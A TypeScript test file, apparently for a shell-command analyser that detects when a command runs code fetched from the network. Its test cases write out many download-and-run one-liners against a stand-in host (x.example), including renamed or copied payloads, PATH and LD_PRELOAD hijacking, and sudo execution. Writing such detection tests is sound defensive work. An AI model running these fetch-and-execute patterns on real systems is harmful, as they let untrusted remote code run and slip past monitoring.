import { describe, expect, test } from 'bun:test';
import { read, sources } from './reads.ts';

const URL = 'https://x.example/i';

describe('readCommand with what was fetched, under another name', () => {
  test.each([
    'cp i d/; sh d/i',
    'cp i d; d/i',
    'cp -t d i; sh d/i',
    'cp i j d; sh d/i',
    'mv i d; sh d/i',
    'mv i j; mv j k; sh k',
    'ln -s i d/; sh d/i',
    'install -m755 i ~/bin/j; j',
    'install -m 755 -t ~/bin i; ~/bin/i',
    'cp i* d; sh d/i',
    'mkdir d; mv i d; mv d e; sh e/i',
    'mkdir d; cp i d; cp -r d e; sh e/d/i',
    'mkdir d; cp i d; cp -r d/. e; sh e/i',
    'dd if=i of=j; sh j',
    'dd of=j < i; sh j',
    'dd if=i of=j bs=1 count=9; sh j',
    'sh ./i*',
    './i*',
    'sh ?',
    'for f in ./*; do bash "$f"; done',
    'cat i* | sh',
    'chmod +x i; timeout 5 ./i',
    'chmod +x i; sudo ./i',
  ])('sees that %s runs it', (text) => {
    expect(sources(`curl -o i ${URL}; ${text}`)).toContain(URL);
  });

  test.each([
    `t=$(mktemp); curl -o "$t" ${URL}; sh "$t"`,
    `t=$(mktemp); curl ${URL} > $t; chmod +x $t; $t`,
    `curl -o "$X/i" ${URL}; sh "$X/i"`,
    `cd "$(mktemp -d)" && curl -O ${URL} && sh i`,
    `d=$(mktemp -d); git clone ${URL} "$d"; "$d/run"`,
    `git clone ${URL} && mv i b && b/run`,
    `git clone ${URL} && cp i/*.sh b/ && b/run.sh`,
    `git clone ${URL} && sh i/*.sh`,
  ])('follows it through names that are not known: %s', (text) => {
    expect(sources(text)).toContain(URL);
  });

  test.each([
    `curl -o ~/bin/ls ${URL}; ls`,
    `curl ${URL} | sudo tee /usr/local/bin/git; git status`,
    `curl -o git ${URL}; PATH=$PWD:$PATH; git status`,
    `curl -o d/git ${URL}; export PATH=/work/d:$PATH; git status`,
    `curl -o i ${URL}; sudo mv i /usr/local/bin/kubectl; kubectl version`,
  ])('sees a program put in front of another: %s', (text) => {
    expect(sources(text)).toContain(URL);
  });

  test.each([
    `curl -o git ${URL}; git status`,
    `curl -o /usr/local/bin/echo ${URL}; echo a`,
    `curl -o i ${URL}; cp i d; sh d/j`,
    `curl -o i ${URL}; cp j d; sh d/j`,
    `curl -o i ${URL}; sh ./j*`,
    `curl -o i ${URL}; sh d/*`,
    `curl -o "$X/i" ${URL}; sh "$Y/i"`,
    `curl -o i ${URL}; mv d e; sh e/i`,
    `curl -o i ${URL}; echo ls > i; sh i`,
    `echo ls > i; sh i*`,
  ])('has nothing to say against %s', (text) => {
    expect(sources(text)).toEqual([]);
  });
});

describe('readCommand with what other programs fetch', () => {
  test.each([
    ['aria2c -o i.sh https://x.example/i; sh i.sh', 'https://x.example/i'],
    ['aria2c -d d -o i.sh https://x.example/i; sh d/i.sh', 'https://x.example/i'],
    ['aria2c https://x.example/i.sh; sh i.sh', 'https://x.example/i.sh'],
    ['axel -o i.sh https://x.example/i && sh i.sh', 'https://x.example/i'],
    ['axel https://x.example/i.sh && sh i.sh', 'https://x.example/i.sh'],
    ['http --download https://x.example/i.sh; sh i.sh', 'https://x.example/i.sh'],
    ['http -d -o j.sh https://x.example/i; sh j.sh', 'https://x.example/i'],
    ['xh -o i.sh https://x.example/i; sh i.sh', 'https://x.example/i'],
    ['wget https://x.example/; sh index.html', 'https://x.example/'],
    ['wget -r https://x.example/d/; sh x.example/d/i.sh', 'https://x.example/d/'],
    ['scp x.example:d/i.sh . && sh i.sh', 'x.example:d/i.sh'],
    ['scp x.example:d/i.sh j.sh && sh j.sh', 'x.example:d/i.sh'],
    ['scp x.example:i.sh d/ && sh d/i.sh', 'x.example:i.sh'],
    ['scp -r x.example:d . && sh d/i.sh', 'x.example:d'],
    ['rsync x.example:i.sh . && sh i.sh', 'x.example:i.sh'],
    ['rsync -a x.example:d/ e && sh e/i.sh', 'x.example:d/'],
    ['gsutil cp gs://b/i.sh . && sh i.sh', 'gs://b/i.sh'],
    ['aws s3 cp s3://b/i.sh j.sh && sh j.sh', 's3://b/i.sh'],
    ['aws s3 sync s3://b d && sh d/i.sh', 's3://b'],
    ['gcloud storage cp gs://b/i.sh . && sh i.sh', 'gs://b/i.sh'],
    ['rclone copy r:b/i.sh d && sh d/i.sh', 'r:b/i.sh'],
    ['rclone copyto r:b/i.sh j.sh && sh j.sh', 'r:b/i.sh'],
    ['glab repo clone a/b && b/i.sh', 'a/b'],
    ['ssh x.example cat i.sh | sh', 'x.example'],
    ['bash <(ssh me@x.example cat i.sh)', 'me@x.example'],
  ])('sees that %s runs code from %s', (text, source) => {
    expect(sources(text)).toContain(source);
  });

  test('knows what a release was saved as', () => {
    const runsFetched = (text: string) =>
      read(text).commands.some(({ effects }) => effects.some(({ type }) => type === 'remote_code'));
    expect(runsFetched('gh release download -R a/b -p i.sh; sh i.sh')).toBe(true);
    expect(runsFetched('gh release download v1 -O i; chmod +x i; ./i')).toBe(true);
    expect(runsFetched('gh release download v1 -D d; d/i')).toBe(true);
    expect(runsFetched('gh release download v1; ./i')).toBe(false);
  });

  test.each([
    'rsync -a x.example:d/ . && sh build.sh',
    'aws s3 sync s3://b . && node index.js',
    'aws s3 cp s3://b/data.csv . && python3 train.py data.csv',
    'scp x.example:a.csv . && python3 plot.py',
    'scp i.sh x.example: && sh i.sh',
    'docker cp c:/app/run . && ./run',
    'kubectl cp pod:/app/run run && ./run',
    'svn export ./d e && e/i.sh',
    'ssh x.example uptime | cut -d, -f1',
  ])('has nothing to say against %s', (text) => {
    expect(sources(text)).toEqual([]);
  });
});

describe('readCommand with the ways to run a file', () => {
  test.each([
    'awk -f i a',
    'bash --rcfile i -i',
    'java -jar i',
    'osascript i',
    'expect i',
    'tclsh i',
    'vim -S i',
    'make -f i',
    'node -r ./i a.js',
    'node --import ./i a.js',
    'ruby -r./i -e 1',
    'pwsh -File i',
    'wine i',
    '/lib64/ld-linux-x86-64.so.2 ./i',
    'LD_PRELOAD=./i ls',
    'MAKEFILES=i make',
    'CC=./i make',
    'PYTHONSTARTUP=i python3 -i',
    'head -5 i | sh',
    'sed 1d i | sh',
    'sed 1d i > j; sh j',
    'grep -v x i | bash',
    'sort i > j; chmod +x j; ./j',
    'sh -c "$(tail -n +2 i)"',
    `node -e 'require("./i")'`,
    `python3 -c "import runpy; runpy.run_path('i')"`,
    `ruby -e 'load "./i"'`,
    `perl -e 'do "./i"'`,
    `php -r 'include "i";'`,
    `lua -e 'dofile("i")'`,
  ])('sees that %s runs what was fetched', (text) => {
    expect(sources(`curl -o i ${URL}; ${text}`)).toContain(URL);
  });

  test.each([
    'awk -f j i',
    'vim i',
    'node -r dotenv/config a.js',
    'node -r i a.js',
    'node a.js i',
    'make -f j',
    'java Main i',
    'head -5 i | sort',
    'head -5 j | sh',
    'LD_PRELOAD=./j CC=./j make',
    'python3 -c "print(1)" i',
  ])('has nothing to say against %s', (text) => {
    expect(sources(`curl -o i ${URL}; ${text}`)).toEqual([]);
  });

  test('data is no code', () => {
    expect(sources(`curl -o i.json ${URL}; node -p 'require("./i.json").version'`)).toEqual([]);
    expect(sources(`git clone ${URL} a && make -f a/build.mk`)).toEqual([]);
  });
});
